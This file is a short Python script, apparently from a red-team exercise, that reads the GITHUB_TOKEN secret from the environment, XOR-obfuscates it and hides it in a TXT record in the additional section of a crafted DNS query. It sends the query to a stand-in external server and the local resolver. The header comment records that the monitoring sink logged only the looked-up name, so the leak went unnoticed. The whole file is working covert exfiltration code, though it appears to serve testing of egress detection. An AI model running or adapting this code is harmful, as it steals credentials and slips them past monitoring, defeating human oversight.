# A secret from the environment in a DNS query's additional section
# (red team, session 22): a query for an innocent name that also carries
# a TXT record holding the secret XOR-ed with a byte, sent as a raw
# datagram to a server of the program's choice and to the resolver. The
# sink recorded the question alone (a low "looked up names" before).
import os
import socket
import struct

s = os.environ["GITHUB_TOKEN"].encode()


def name(n):
    return b"".join(bytes([len(label)]) + label.encode() for label in n.split(".")) + b"\0"


txt = bytes([len(s)]) + bytes(b ^ 0x21 for b in s)
packet = (struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 1) + name("www.example-cdn.net") + struct.pack(">HH", 1, 1) +
          name("x.example-cdn.net") + struct.pack(">HHIH", 16, 1, 60, len(txt)) + txt)
ns = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")][0]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(1)
for dst in ("203.0.113.53", ns):
    u.sendto(packet, (dst, 53))
    try:
        u.recv(512)
    except OSError:
        pass
print("sent")
